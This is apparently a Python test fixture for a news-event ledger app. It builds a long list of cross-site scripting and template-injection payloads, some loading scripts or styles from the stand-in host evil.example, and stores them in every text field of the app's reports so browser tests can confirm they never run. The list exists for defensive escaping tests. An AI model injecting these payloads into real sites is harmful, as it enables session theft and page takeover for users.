"""Texts that want to be markup, written by us, and a ledger full of them: for the test client and for a real browser.

``PAYLOADS`` call ``xss(n)`` if they ever run: a browser test defines that function and fails when it is called, or when an alert,
a request to ``evil.example`` or a changed address shows that one ran.
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from sayso.ledger import dossiers
from sayso.ledger.judgements.model import Target
from sayso.ledger.judgements.store import Draft, judge
from sayso.schema import Source, Span
from tests.handmade import story

if TYPE_CHECKING:
    from sayso.ledger import Ledger
    from sayso.schema import CodedReport

_PATTERNS = (
    "<script>xss({n})</script>", "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>", "<scr<script>ipt>xss({n})</scr</script>ipt>",
    "</title><script>xss({n})</script>", "</textarea><script>xss({n})</script>", "</style><script>xss({n})</script>",
    "</script><script>xss({n})</script>", "--><script>xss({n})</script><!--", "]]><script>xss({n})</script>",
    "<img src=x onerror=xss({n})>", '"><img src=x onerror=xss({n})>', "'><img src=x onerror=xss({n})>",
    "<img/src='x'/onerror=xss({n})>", "<IMG SRC=x OnErRoR=xss({n})>", "<img src=x onerror\n=xss({n})>",
    "<img src=`x` onerror=xss({n})>", "<svg onload=xss({n})>", "<svg/onload=xss({n})>", "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:xss({n})'><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=xss({n})></mtext></math>", "<body onload=xss({n})>", "<iframe src=javascript:xss({n})>",
    "<iframe srcdoc='<script>parent.xss({n})</script>'>", "<object data=javascript:xss({n})>", "<embed src=javascript:xss({n})>",
    "<a href=javascript:xss({n})>x</a>", "<a href='jav&#x09;ascript:xss({n})'>x</a>", "<form action=javascript:xss({n})><button>x",
    "<button formaction=javascript:xss({n})>x", "<input autofocus onfocus=xss({n})>", "<details open ontoggle=xss({n})>",
    "<video><source onerror=xss({n})>", "<audio src=x onerror=xss({n})>", "<marquee onstart=xss({n})>x", "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>@import'//evil.example/{n}.css'</style>",
    "<div style='background:url(//evil.example/{n})'>x</div>", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<template><script>xss({n})</script></template>", "<noscript><p title='</noscript><img src=x onerror=xss({n})>'>",
    "<x hx-on:load=xss({n}) hx-trigger=load>", "<div hx-get=//evil.example/{n} hx-trigger=load>", "<div hx-vals='js:{{a:xss({n})}}' hx-get=/ hx-trigger=load>",
    '" hx-get="//evil.example/{n}" hx-trigger="load', '" onmouseover="xss({n})" x="', "' onfocus='xss({n})' autofocus='", "` onload=xss({n}) x=`",
    '" autofocus onfocus=xss({n}) x="', '" style="background:url(//evil.example/{n})', "javascript:xss({n})", "JaVaScRiPt:xss({n})",
    "java\tscript:xss({n})", " javascript:xss({n})", "\x01javascript:xss({n})", "data:text/html,<script>xss({n})</script>", "vbscript:xss({n})",
    "{{{{ xss({n}) }}}}", "{{% import 'os' as o %}}{{{{ o.system({n}) }}}}", "${{xss({n})}}", "#{{xss({n})}}", "&lt;script&gt;xss({n})&lt;/script&gt;",
    "&#60;script&#62;xss({n})&#60;/script&#62;", "\\u003cscript\\u003exss({n})\\u003c/script\\u003e", "%3Cscript%3Exss({n})%3C/script%3E",
    "\uff1cscript\uff1exss({n})\uff1c/script\uff1e", "<\x00script>xss({n})</script>", "<script\x0c>xss({n})</script>", "\u202e<script>xss({n})</script>",
    "<\u017fcript>xss({n})</\u017fcript>", '<a href="//evil.example/{n}" data-island=marks>', '<!--<img src="--><img src=x onerror=xss({n})//">',
    "<p data-island='judging' data-key='a'>x{n}", "<dialog open onclose=xss({n})><form method=dialog><button>x", "]}}\n<script>xss({n})</script>",
)  # fmt: skip
PAYLOADS = tuple(p.format(n=n) for n, p in enumerate(_PATTERNS))
#: What may never stand in a page as it is: the parts of payloads that begin a tag or leave an attribute.
RAW = ("<script>xss", "<SCRIPT SRC", "<img src=x", "<img/src", "<IMG", "<svg", "<iframe", "<object", "<embed", "<base", "<marquee", "<math",
       "<body onload", "<audio", "<video", "<style>@", "<template>", "<noscript>", "<x hx", "<div hx", "<meta http-equiv=refresh", "<form action=java",
       '" onmouseover="', '" hx-get="//', "' onfocus='", '" autofocus onfocus', '" style="background', "<details open onto", "<dialog open onc",
       "<div style", "<link rel=stylesheet href=//", "<a href=java", "<a href='jav", '<a href="//evil', "<p data-island='judging' data-key='a'",
       "<button formaction=java", "<input autofocus onf", "<\u017fcript")  # fmt: skip


def report(payload: str, n: int) -> CodedReport:
    """A report that is a payload wherever it has words; spans stand in its text."""
    text = f"{payload} shelled the port. {payload} said {payload} through {payload}."
    made = story(id=f"xss-{n} {payload}", outlet=payload, title=payload, url=payload, published="2020-05-01")
    who = Span(start=0, end=len(payload), text=payload)
    shelled = Span(start=text.index("shelled"), end=text.index("shelled") + 7, text="shelled")
    said = text.index("said")
    cue = Span(start=said, end=said + 4, text="said")
    content = Span(start=said + 5, end=said + 5 + len(payload), text=payload)
    party = replace(made.events[0].actors[0], name=payload, span=who, country=None, sector=None)
    place = made.events[0].place
    assert place is not None
    event = replace(
        made.events[0], anchor=shelled, actors=(party,), recipients=(replace(party, span=None),), about=(content,), counts=(),
        place=replace(place, name=payload, admin1=payload, span=None), date=None, because=(payload,), mode=None,
        attributions=("a1",), said_by=(payload, payload),
    )  # fmt: skip
    speaker = Source(start=None, end=None, text=None, actor=None, name=payload)
    claim = replace(made.attributions[0], speaker=speaker, cue=cue, content=(content,), via=(speaker,), because=(payload,))
    return replace(made, text=text, events=(event,), attributions=(claim,), language=None)


def fill(ledger: Ledger, payloads: tuple[str, ...] = PAYLOADS) -> list[str]:
    """Store a report for each payload, with a note, a judge, a reviewer and a dossier of that name; gives the ids of the reports."""
    ids = []
    for n, payload in enumerate(payloads):
        ids.append(ledger.add(report(payload, n), by=payload[:80]).report)
        judge(ledger, Draft(kind="note", target=Target(kind="report", report=ids[-1]), note=payload), payload[:80])
        judge(ledger, Draft(kind="assign", target=Target(kind="report", report=ids[-1]), value=payload[:80]), payload[:80])
        dossiers.save(ledger, f"{payload} {n}", f"actor={n}", payload[:80])
    return ids
